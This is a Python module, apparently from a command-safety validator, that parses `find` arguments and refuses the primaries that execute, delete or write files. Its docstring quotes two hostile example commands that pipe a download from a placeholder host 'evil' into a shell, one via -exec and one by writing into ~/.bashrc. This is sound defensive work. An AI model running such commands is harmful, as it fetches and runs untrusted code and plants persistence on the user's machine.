"""find: starting points, then an expression of tests and actions.

Actions that execute or write are refused: ``-exec``, ``-execdir``, ``-ok``,
``-okdir`` run commands (``find . -exec sh -c 'curl evil|sh' \\;``),
``-delete`` removes, ``-fprint``/``-fprint0``/``-fprintf``/``-fls`` write
files (``find . -fprintf ~/.bashrc 'curl evil|sh\\n'``). Everything else must
be a known test or option; an unknown primary is not read-only.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

FORBIDDEN = {
    "-exec": "runs a command",
    "-execdir": "runs a command",
    "-ok": "runs a command",
    "-okdir": "runs a command",
    "-delete": "deletes files",
    "-fprint": "writes a file",
    "-fprint0": "writes a file",
    "-fprintf": "writes a file",
    "-fls": "writes a file",
}

_NO_ARG = frozenset(
    [
        "-print",
        "-print0",
        "-ls",
        "-prune",
        "-quit",
        "-true",
        "-false",
        "-not",
        "-a",
        "-and",
        "-o",
        "-or",
        "-depth",
        "-d",
        "-empty",
        "-readable",
        "-writable",
        "-executable",
        "-nouser",
        "-nogroup",
        "-xdev",
        "-mount",
        "-noleaf",
        "-daystart",
        "-follow",
        "-ignore_readdir_race",
        "-noignore_readdir_race",
        "-nowarn",
        "-warn",
        "-help",
        "--help",
        "-version",
        "--version",
        "!",
        "(",
        ")",
        ",",
    ]
)
#: Primaries whose argument is a name pattern (check 5 looks inside them).
FIND_PATTERN_PRIMARIES = frozenset(
    [
        "-name",
        "-iname",
        "-path",
        "-ipath",
        "-wholename",
        "-iwholename",
        "-regex",
        "-iregex",
        "-lname",
        "-ilname",
    ]
)
_ONE_ARG = FIND_PATTERN_PRIMARIES | frozenset(
    [
        "-type",
        "-xtype",
        "-size",
        "-mtime",
        "-mmin",
        "-atime",
        "-amin",
        "-ctime",
        "-cmin",
        "-used",
        "-perm",
        "-user",
        "-group",
        "-uid",
        "-gid",
        "-links",
        "-inum",
        "-maxdepth",
        "-mindepth",
        "-regextype",
        "-fstype",
        "-printf",
        "-context",
    ]
)
_PATH_ARG = frozenset(["-newer", "-anewer", "-cnewer", "-samefile"])
_NEWER_XY_RE = re.compile(r"^-newer[aBcm][aBcmt]$")
_GLOBAL_OPTS_RE = re.compile(r"^-(?:[HLP]|O\d|D\S*)$")


@dataclass(frozen=True, slots=True)
class FindFacts:
    roots: tuple[str, ...]
    reads: tuple[str, ...]
    problem: str | None
    deletes: bool
    exec_argv: tuple[str, ...]


def analyze_find(argv: tuple[str, ...]) -> FindFacts:
    i, n = 1, len(argv)
    while i < n and _GLOBAL_OPTS_RE.match(argv[i]):
        i += 2 if argv[i] == "-D" else 1
    roots: list[str] = []
    while i < n and not (argv[i].startswith("-") or argv[i] in ("(", "!", ")", ",")):
        roots.append(argv[i])
        i += 1
    reads: list[str] = []
    problem: str | None = None
    deletes = False
    exec_argv: tuple[str, ...] = ()
    while i < n:
        tok = argv[i]
        if tok in FORBIDDEN:
            problem = problem or f"find {tok} {FORBIDDEN[tok]}"
            if tok == "-delete":
                deletes = True
                i += 1
                continue
            if tok.startswith(("-exec", "-ok")):
                end = i + 1
                while end < n and argv[end] not in (";", "+"):
                    end += 1
                exec_argv = exec_argv or tuple(argv[i + 1 : end])
                i = end + 1
                continue
            i += 2 if tok in ("-fprint", "-fprint0", "-fls") else 3
            continue
        if tok in _NO_ARG:
            i += 1
        elif tok in _ONE_ARG:
            if i + 1 >= n:
                problem = problem or f"find {tok} needs an argument"
            i += 2
        elif tok in _PATH_ARG or _NEWER_XY_RE.match(tok):
            # -newerXt compares with a date string, every other form with a file
            if i + 1 < n and not tok.endswith("t"):
                reads.append(argv[i + 1])
            i += 2
        elif tok == "-files0-from":
            problem = problem or "find -files0-from reads starting points from a file"
            i += 2
        else:
            problem = problem or f"unknown find primary {tok!r}"
            i += 1
    return FindFacts(tuple(roots) or (".",), tuple(reads), problem, deletes, exec_argv)
